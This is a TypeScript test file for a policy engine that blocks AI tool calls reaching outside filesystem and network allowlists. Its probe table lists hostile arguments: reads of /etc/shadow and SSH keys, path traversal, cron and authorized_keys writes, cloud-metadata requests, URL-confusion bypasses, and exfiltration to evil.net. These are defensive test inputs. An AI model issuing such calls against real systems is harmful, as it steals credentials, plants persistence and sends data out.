// Hostile probes against the filesystem and egress checks: each names the tool, its arguments
// (and input schema, when the server declares one) and the violation it must produce. The table
// mixes argument shapes the checks always knew (`path`, `url`, …) with the ones they missed:
// the official filesystem server's `move_file {source, destination}`, `src`/`dst`, `target`,
// other spellings (`Path`, `URL`), suffixed names (`webhook_url`), nested objects and arrays,
// strings under unknown names, Windows drives and `~` paths.
import { describe, expect, it } from "vitest";
import { collectCallTargets } from "./call-targets.js";
import { compilePolicy } from "./compile-policy.js";
import { evaluatePolicy } from "./evaluate-policy.js";
import { parsePolicyYaml } from "./parse-policy-yaml.js";

const compiled = compilePolicy(
  parsePolicyYaml(`
tenant: t
enforcement:
  deny_on: [fs_violation, egress_violation]
security:
  fs_allowlist: ["/data", "/tmp/sec0-*"]
  egress_allowlist: ["api.example.com", "*.trusted.test"]
`),
  { cwd: "/data" },
);

type Kind = "fs_violation" | "egress_violation";
type Probe = readonly [tool: string, args: Record<string, unknown>, expected: Kind, inputSchema?: object];

const probes: readonly Probe[] = [
  // Filesystem.
  ["read_file", { path: "/etc/passwd" }, "fs_violation"],
  ["write_file", { path: "/data/../etc/shadow", content: "x" }, "fs_violation"],
  ["read_multiple_files", { paths: ["/data/a.txt", "/etc/passwd"] }, "fs_violation"],
  ["list_directory", { directory: "/root" }, "fs_violation"],
  ["edit_file", { file: "file:///etc/passwd" }, "fs_violation"],
  ["read", { file_path: "\\\\fileserver\\share\\secrets.txt" }, "fs_violation"],
  ["read", { filePath: "../../etc/passwd" }, "fs_violation"],
  ["list", { dir: "/data-evil" }, "fs_violation"],
  ["read", { filename: "/tmp/sec0-run/../../etc/passwd" }, "fs_violation"],
  ["move_file", { source: "/data/a.txt", destination: "/etc/cron.d/evil" }, "fs_violation"],
  ["move_file", { source: "/etc/shadow", destination: "/data/shadow" }, "fs_violation"],
  ["copy", { src: "/data/a", dst: "/root/.ssh/authorized_keys" }, "fs_violation"],
  ["symlink", { target: "/etc/passwd", path: "/data/link" }, "fs_violation"],
  ["read", { Path: "/etc/hosts" }, "fs_violation"],
  ["read", { options: { path: "/etc/hosts" } }, "fs_violation"],
  ["run", { cwd: "/etc", command: "cat passwd" }, "fs_violation"],
  ["batch", { operations: [{ op: "write", path: "/etc/x" }] }, "fs_violation"],
  ["archive", { input: "/etc/shadow" }, "fs_violation"],
  ["read", { path: "~/.ssh/id_rsa" }, "fs_violation"],
  // Egress.
  ["fetch", { url: "https://evil.example.net/x" }, "egress_violation"],
  ["fetch", { url: "https://api.example.com.evil.net/" }, "egress_violation"],
  ["fetch", { uri: "https://api.example.com@evil.net/" }, "egress_violation"],
  ["open", { href: "http://169.254.169.254/latest/meta-data/" }, "egress_violation"],
  ["call", { endpoint: "wss://evil.net/socket" }, "egress_violation"],
  ["fetch", { urls: ["https://api.example.com/a", "https://evil.net/b"] }, "egress_violation"],
  ["fetch", { url: "ftp://evil.net/dump" }, "egress_violation"],
  ["fetch", { url: "http://[::1]:8080/admin" }, "egress_violation"],
  ["fetch", { url: "https://evil.net\\@api.example.com/" }, "egress_violation"],
  ["fetch", { URL: "https://evil.net/" }, "egress_violation"],
  ["subscribe", { webhook_url: "https://evil.net/hook" }, "egress_violation"],
  ["http", { request: { method: "POST", url: "https://evil.net/collect" } }, "egress_violation"],
  ["send", { message: "https://evil.net/exfil?d=secret" }, "egress_violation"],
  [
    "configure",
    { config: { sink: "//evil.net/x" } },
    "egress_violation",
    {
      type: "object",
      properties: {
        config: { type: "object", properties: { sink: { type: "string", format: "uri-reference" } } },
      },
    },
  ],
];

describe("fs and egress probes", () => {
  it("has 33 probes", () => {
    expect(probes).toHaveLength(33);
  });

  it.each(probes.map((probe) => [probe[0], JSON.stringify(probe[1]), probe] as const))(
    "%s %s",
    (_tool, _args, [tool, args, expected, inputSchema]) => {
      const result = evaluatePolicy(compiled, {
        tool: `mcp://probe/${tool}@1.0`,
        args,
        ...(inputSchema === undefined ? {} : { inputSchema }),
      });
      expect(result.violations).toContain(expected);
      expect(result.decision.action).toBe("deny");
    },
  );
});

const writeSchema = {
  type: "object",
  properties: { path: { type: "string" }, content: { type: "string" } },
};

/** Calls that stay inside the allowlists, or name no target at all. */
const benign: ReadonlyArray<readonly [string, Record<string, unknown>, object?]> = [
  ["read_file", { path: "/data/reports/q1.csv" }],
  ["read_file", { path: "reports/q1.csv" }],
  ["move_file", { source: "/data/a.txt", destination: "/data/archive/a.txt" }],
  ["copy", { src: "a.txt", dst: "backup/a.txt" }],
  ["write", { path: "/tmp/sec0-run/out.json", content: "{}" }],
  ["fetch", { url: "https://api.example.com/v1/items" }],
  ["http", { request: { method: "GET", url: "https://eu.trusted.test/y" } }],
  ["subscribe", { webhook_url: "https://hooks.trusted.test/h" }],
  ["translate", { text: "hello", target: "fr", source: "en" }],
  ["search", { query: "what is in /etc/passwd", limit: 3 }],
  ["note", { text: "see https://evil.net for details" }],
  ["write_file", { path: "/data/links.txt", content: "https://evil.net" }, writeSchema],
  ["stats", { counts: [1, 2, 3], flags: { verbose: true }, root_cause: null }],
];

describe("benign calls", () => {
  it.each(benign.map((row) => [row[0], JSON.stringify(row[1]), row] as const))(
    "%s %s passes",
    (_tool, _args, [tool, args, inputSchema]) => {
      const result = evaluatePolicy(compiled, {
        tool: `mcp://probe/${tool}@1.0`,
        args,
        ...(inputSchema === undefined ? {} : { inputSchema }),
      });
      expect(result.violations).toEqual([]);
      expect(result.decision.action).toBe("allow");
    },
  );

  it("checks every string that looks like a URL or an absolute path when no schema says otherwise", () => {
    const result = evaluatePolicy(compiled, {
      tool: "mcp://probe/write_file@1.0",
      args: { path: "/data/links.txt", content: "https://evil.net" },
    });
    expect(result.violations).toEqual(["egress_violation"]);
  });
});

describe("bounds of the argument walk", () => {
  const nest = (depth: number, leaf: unknown): unknown =>
    depth === 0 ? leaf : { level: nest(depth - 1, leaf) };

  it("finds a path seven objects deep", () => {
    const args = nest(7, { path: "/etc/passwd" }) as Record<string, unknown>;
    expect(evaluatePolicy(compiled, { tool: "mcp://probe/x@1", args }).violations).toEqual(["fs_violation"]);
  });

  const both = ["egress_violation", "fs_violation", "targets_unchecked"];
  it.each([
    ["nesting deeper than 8", nest(12, { note: "nothing here" }), both],
    ["more than 1,000 strings", { rows: Array.from({ length: 1001 }, (_, i) => `row ${i}`) }, both],
    [
      "a named path over 8 KiB",
      { path: `/data/${"a/".repeat(4200)}` },
      ["fs_violation", "targets_unchecked"],
    ],
    [
      "a URL over 8 KiB",
      { note: `https://api.example.com/?q=${"a".repeat(9000)}` },
      ["egress_violation", "targets_unchecked"],
    ],
  ])("fails closed on %s, and targets_unchecked says why", (_name, args, violations) => {
    const result = evaluatePolicy(compiled, {
      tool: "mcp://probe/x@1",
      args: args as Record<string, unknown>,
    });
    expect(result.violations).toEqual(violations);
    expect(result.decision.action).toBe("deny");
  });

  it("looks at a long string that is neither a URL nor a path no further", () => {
    const content = `# notes\n${"plain text ".repeat(2000)}`;
    expect(evaluatePolicy(compiled, { tool: "mcp://probe/x@1", args: { content } }).violations).toEqual([]);
  });

  it("never walks the arguments when the policy has no fs or egress rules", () => {
    const plain = compilePolicy(parsePolicyYaml("tenant: t\nenforcement:\n  deny_on: [fs_violation]\n"));
    const args = {
      get path(): string {
        throw new Error("walked");
      },
    };
    expect(evaluatePolicy(plain, { tool: "mcp://probe/x@1", args }).violations).toEqual([]);
  });
});

describe("collectCallTargets", () => {
  it("reads the tool's input schema: format uri marks a target whatever its name", () => {
    const schema = { type: "object", properties: { location: { type: "string", format: "uri" } } };
    expect(
      collectCallTargets({ location: "not absolute" }, undefined, undefined, { inputSchema: schema }),
    ).toMatchObject({ urls: ["not absolute"], paths: [] });
  });

  it("adds explicit urls and paths to what the arguments name", () => {
    expect(collectCallTargets({ path: "/a" }, ["https://x.test"], ["/b"])).toMatchObject({
      urls: ["https://x.test"],
      paths: ["/b", "/a"],
    });
  });
});
